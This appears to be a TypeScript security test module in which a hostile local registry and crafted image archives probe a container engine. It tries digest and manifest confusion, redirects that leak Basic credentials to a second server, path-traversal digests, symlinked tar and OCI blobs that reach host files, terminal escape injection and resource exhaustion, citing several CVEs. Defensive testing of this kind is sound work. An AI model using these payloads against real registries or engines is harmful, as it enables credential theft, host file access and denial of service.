import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { dockerArchive } from '../support/image-archive.js';
import { OciLayout, sha256 } from '../support/oci-layout.js';
import { HostileRegistry, PASSWORD, USER } from '../support/registry.js';
import { memberBlocks, tar } from '../support/tar.js';
import { type Attack, hasControlCharacters } from './attack.js';
import type { AttackRun } from './attack-run.js';

/** A registry that lies, and archives of images that do. */

interface Setting {
  registry: HostileRegistry;
  layout: OciLayout;
  /** What the attacker's own second server was sent. */
  elsewhere: { url: string; heard: IncomingHttpHeaders[] };
  image: ReturnType<OciLayout['image']>;
  pull: (...flags: string[]) => Promise<{ status: number | null; output: string; isTooLate: boolean }>;
}

/** With a registry of one image, `app:1`. */
async function withRegistry(
  attempt: AttackRun,
  use: (setting: Setting) => Promise<unknown>,
): Promise<unknown> {
  const layout = new OciLayout();
  const content = `${randomBytes(8).toString('hex')}\n`;
  const image = layout.image(
    {
      layers: [
        {
          members: [
            { name: 'etc/', type: '5' },
            { name: 'etc/f', content },
          ],
        },
      ],
    },
    '1',
  );
  const registry = new HostileRegistry(layout);
  const heard: IncomingHttpHeaders[] = [];
  const other = createServer(({ headers }, response) => {
    heard.push(headers);
    response.end('{"token":"x"}');
  });
  await registry.start();
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const name = `${registry.host}/app:1`;
  const pull = (...flags: string[]) => attempt.command(['pull', '--tls-verify=false', ...flags, name]);
  try {
    const url = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    return await use({ registry, layout, image, pull, elsewhere: { url, heard } });
  } finally {
    registry.stop();
    other.closeAllConnections();
    other.close();
  }
}

const MANIFEST = '/v2/app/manifests/1';
const blob = (descriptor: { digest: string }) => `/v2/app/blobs/${descriptor.digest}`;

function attack(
  name: string,
  by: Attack['by'],
  commit: Attack['commit'],
  rest: Partial<Attack> = {},
): Attack {
  return { name, aim: 'confusion', by, commit, ...rest };
}

export const REMOTE: Attack[] = [
  attack('a layer or config that does not match its digest', 'registry', async (attempt) => {
    // Each of an image of its own: what came honestly is not asked for again.
    for (const partOf of [
      (image: Setting['image']) => image.layers[0],
      (image: Setting['image']) => image.config,
    ]) {
      const isTaken = await withRegistry(attempt, async ({ registry, image, pull }) => {
        const part = partOf(image) ?? image.config;
        registry.overrides.set(blob(part), ({ response }) => response.end(Buffer.alloc(part.size, 'x')));
        return (await pull()).status === 0;
      });
      if (isTaken === true) return true;
    }
    return false;
  }),
  attack('a manifest that does not match its digest', 'registry', (attempt) =>
    withRegistry(attempt, async ({ registry, image, layout }) => {
      const evil = layout.blobs.get(image.manifest.digest)?.toString().replace('{', '{ ') ?? '';
      const { mediaType } = image.manifest;
      registry.overrides.set(`/v2/app/manifests/${image.manifest.digest}`, ({ response }) =>
        response
          .writeHead(200, { 'content-type': mediaType, 'docker-content-digest': image.manifest.digest })
          .end(evil),
      );
      const name = `${registry.host}/app@${image.manifest.digest}`;
      const { status } = await attempt.command(['pull', '--tls-verify=false', name]);
      return status === 0;
    }),
  ),
  attack(
    'a manifest that is also an index',
    'registry',
    (attempt) =>
      withRegistry(attempt, async ({ registry, image, layout, pull }) => {
        const manifest = JSON.parse(layout.blobs.get(image.manifest.digest)?.toString() ?? '{}') as object;
        const both = Buffer.from(JSON.stringify({ ...manifest, manifests: [image.manifest] }));
        registry.overrides.set(MANIFEST, ({ response }) =>
          response.writeHead(200, { 'content-type': image.manifest.mediaType }).end(both),
        );
        return (await pull()).status === 0;
      }),
    { reference: 'CVE-2021-41190' },
  ),
  attack(
    'a redirect to a file of the host, and to other schemes',
    'registry',
    (attempt) =>
      withRegistry(attempt, async ({ registry, image, pull }) => {
        for (const location of [
          `file://${attempt.host.victim}`,
          `unix://${attempt.host.victim}`,
          'data:,x',
          'gopher://127.0.0.1/',
        ]) {
          registry.overrides.set(blob(image.layers[0] ?? image.config), ({ response }) =>
            response.writeHead(307, { location }).end(),
          );
          if ((await pull()).status === 0) return true;
        }
        return false;
      }),
    { aim: 'host read' },
  ),
  attack(
    'a redirect to another host, to get the password',
    'registry',
    (attempt) =>
      withRegistry(attempt, async ({ registry, image, pull, elsewhere }) => {
        const basic = `Basic ${Buffer.from(`${USER}:${PASSWORD}`).toString('base64')}`;
        registry.overrides.set(MANIFEST, ({ request, response }) =>
          request.headers.authorization === basic
            ? 'honest'
            : response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end(),
        );
        registry.overrides.set(blob(image.config), ({ response }) =>
          response.writeHead(307, { location: `${elsewhere.url}/blob` }).end(),
        );
        await pull('--creds', `${USER}:${PASSWORD}`);
        return elsewhere.heard.some(({ authorization }) => authorization !== undefined);
      }),
    { aim: 'leak', reference: 'CVE-2020-15157 (its class)' },
  ),
  attack(
    'a layer with foreign URLs, whose server asks for the password',
    'registry',
    (attempt) =>
      withRegistry(attempt, async ({ registry, image, layout, pull, elsewhere }) => {
        const manifest = JSON.parse(layout.blobs.get(image.manifest.digest)?.toString() ?? '{}') as {
          layers: object[];
        };
        const mediaType = 'application/vnd.docker.image.rootfs.foreign.diff.tar.gzip';
        const layers = manifest.layers.map((layer) => ({
          ...layer,
          mediaType,
          urls: [`${elsewhere.url}/layer`, `file://${attempt.host.victim}`],
        }));
        const bytes = Buffer.from(JSON.stringify({ ...manifest, layers }));
        registry.overrides.set(MANIFEST, ({ response }) =>
          response.writeHead(200, { 'content-type': image.manifest.mediaType }).end(bytes),
        );
        registry.overrides.set(blob(image.layers[0] ?? image.config), ({ response }) =>
          response.writeHead(404).end(),
        );
        await pull('--creds', `${USER}:${PASSWORD}`);
        return elsewhere.heard.some(({ authorization }) => authorization !== undefined);
      }),
    { aim: 'leak', reference: 'CVE-2020-15157' },
  ),
  attack(
    'endless blobs and responses',
    'registry',
    async (attempt) => {
      const cases = [
        (image: Setting['image']) => blob(image.layers[0] ?? image.config),
        (image: Setting['image']) => blob(image.config),
        () => MANIFEST,
      ];
      for (const pathOf of cases) {
        const isLost = await withRegistry(attempt, async ({ registry, image, pull }) => {
          registry.overrides.set(pathOf(image), ({ response }) => {
            response.writeHead(200, { 'content-type': image.manifest.mediaType });
            sendLong(response);
          });
          const { status, isTooLate } = await pull();
          return status === 0 || isTooLate;
        });
        if (isLost === true) return true;
      }
      const { folder } = attempt.engine.home;
      return sizeOf(join(folder, attempt.engine.name === 'foster' ? 'data' : 'podman')) > 250 * 2 ** 20;
    },
    { aim: 'exhaustion', reference: 'CVE-2024-3727 (its class)' },
  ),
  attack(
    'a digest that is a path',
    'registry',
    (attempt) =>
      withRegistry(attempt, async ({ registry, image, layout, pull }) => {
        const manifest = JSON.parse(layout.blobs.get(image.manifest.digest)?.toString() ?? '{}') as {
          layers: object[];
          config: object;
        };
        const evil = [
          `sha256:../../../../../../../..${attempt.host.victim}`,
          `sha256:${'../'.repeat(20)}`,
          '../../x:abc',
          'sha256:',
        ];
        for (const digest of evil) {
          for (const document of [
            { ...manifest, layers: manifest.layers.map((layer) => ({ ...layer, digest })) },
            { ...manifest, config: { ...manifest.config, digest } },
          ]) {
            registry.overrides.set(MANIFEST, ({ response }) =>
              response
                .writeHead(200, { 'content-type': image.manifest.mediaType })
                .end(JSON.stringify(document)),
            );
            if ((await pull()).status === 0) return true;
          }
        }
        return false;
      }),
    { aim: 'host write', reference: 'CVE-2024-3727' },
  ),
  attack("control characters in a registry's errors", 'registry', (attempt) =>
    withRegistry(attempt, async ({ registry, image, pull }) => {
      const evil = '\x1b]0;evil\x07\x1b[2J';
      const errors = JSON.stringify({ errors: [{ code: `X${evil}`, message: evil, detail: evil }] });
      registry.overrides.set(MANIFEST, ({ response }) => response.writeHead(403).end(errors));
      const first = await pull();
      registry.overrides.set(MANIFEST, ({ response }) =>
        response
          .writeHead(200, { 'content-type': `text/x${encodeURIComponent('\x1b')}` })
          .end(`{"mediaType":"${'\\u001b'}[2J","x":1}`),
      );
      const second = await pull();
      registry.overrides.set(MANIFEST, ({ response }) =>
        response.writeHead(200, { 'content-type': image.manifest.mediaType }).end('{\x1b[2J'),
      );
      const third = await pull();
      return [first, second, third].some(({ output }) => hasControlCharacters(output));
    }),
  ),
  attack(
    'an archive whose index names files of the host, by .. and links',
    'archive',
    async (attempt) => {
      const { victim } = attempt.host;
      const up = `../../../../../../../../../..${victim}`;
      const lists = [
        [{ Config: up, RepoTags: [`localhost/${attempt.token}:x`], Layers: [up] }],
        [{ Config: victim, RepoTags: null, Layers: [victim] }],
        [{ Config: 'c.json', RepoTags: [`localhost/${attempt.token}:x`], Layers: ['l.tar'] }],
      ];
      const config = JSON.stringify({
        os: 'linux',
        architecture: 'amd64',
        config: {},
        rootfs: { type: 'layers', diff_ids: [sha256(Buffer.from(`${attempt.host.secret}\n`))] },
      });
      for (const list of lists) {
        const archive = tar(
          { name: 'manifest.json', content: JSON.stringify(list) },
          { name: 'c.json', content: config },
          { name: 'l.tar', type: '2', target: victim },
          { name: 'x', type: '2', target: attempt.host.folder },
          { name: 'x/new', content: 'x' },
          { name: `${up}-new`, content: 'x' },
        );
        const { output } = await attempt.command(['load'], { input: archive });
        const name = /localhost\/attack[0-9a-f]+:x/.exec(output)?.[0];
        if (name !== undefined) attempt.reveal((await attempt.engine.command(['save', name])).output);
      }
    },
    { aim: 'host read', reference: 'CVE-2014-9356' },
  ),
  attack(
    'an OCI directory whose blobs are links to files of the host',
    'archive',
    async (attempt) => {
      const layout = new OciLayout();
      layout.image(
        { layers: [{ members: [{ name: 'f', content: attempt.token }], compression: 'none' }] },
        `localhost/${attempt.token}:oci`,
      );
      const folder = layout.write(join(attempt.host.work, 'oci'));
      for (const digest of layout.blobs.keys()) {
        const path = join(folder, 'blobs/sha256', digest.slice('sha256:'.length));
        rmSync(path);
        symlinkSync(attempt.host.victim, path);
        const { output } = await attempt.command(['load', '-i', folder]);
        attempt.reveal(output);
      }
      const other = join(attempt.host.work, 'oci-index');
      mkdirSync(other);
      writeFileSync(join(other, 'oci-layout'), '{"imageLayoutVersion":"1.0.0"}');
      symlinkSync(attempt.host.victim, join(other, 'index.json'));
      await attempt.command(['load', '-i', other]);
    },
    { aim: 'host read' },
  ),
  attack(
    'an archive with an endless index, endless names or endless members',
    'archive',
    async (attempt) => {
      const many = Array.from({ length: 60_000 }, (_, index) =>
        memberBlocks({ name: `${index}`, content: '' }),
      );
      const archives = [
        tar({ name: 'manifest.json', content: `[${'{"Config":"c","Layers":[]},'.repeat(200_000)}{}]` }),
        tar({ name: 'manifest.json', content: '['.repeat(5_000_000) }),
        Buffer.concat([...many, Buffer.alloc(1024)]),
        tar(
          {
            name: 'manifest.json',
            content: JSON.stringify([{ Config: 'c', Layers: Array.from({ length: 100_000 }, () => 'l') }]),
          },
          { name: 'c', content: '{}' },
          { name: 'l', content: tar() },
        ),
      ];
      for (const input of archives) {
        const { isTooLate, output } = await attempt.command(['load'], { input });
        if (isTooLate || /unexpected error|panic:|heap out of memory|stack size/.test(output)) return true;
      }
      return false;
    },
    { aim: 'exhaustion' },
  ),
  attack('names in an archive: control characters, .., options', 'archive', async (attempt) => {
    const names = [
      '\x1b[2J:1',
      '../../../etc/x:1',
      '--help:1',
      'a/../../b:1',
      `localhost/${attempt.token}:../../x`,
      `localhost/${attempt.token}:\x1b`,
      'LOUD:1',
    ];
    for (const name of names) {
      const { output } = await attempt.command(['load'], {
        input: dockerArchive({ names: [name], layers: [[]] }),
      });
      if (hasControlCharacters(output)) return true;
    }
    const { output } = await attempt.command(['images', '-a']);
    return hasControlCharacters(output) || existsSync('/etc/x');
  }),
];

/** 300 MiB, as fast as they are taken. */
function sendLong(response: ServerResponse): void {
  const piece = Buffer.alloc(1 << 20, 'x');
  let left = 300;
  const more = () => {
    while (left > 0) {
      left--;
      if (!response.write(piece)) return;
    }
    response.end();
  };
  response.on('drain', more);
  more();
}

function sizeOf(folder: string): number {
  let size = 0;
  for (const entry of existsSync(folder) ? readdirSync(folder, { withFileTypes: true }) : []) {
    const path = join(folder, entry.name);
    try {
      size += entry.isDirectory() ? sizeOf(path) : (statSync(path, { throwIfNoEntry: false })?.size ?? 0);
    } catch {
      // of another user
    }
  }
  return size;
}
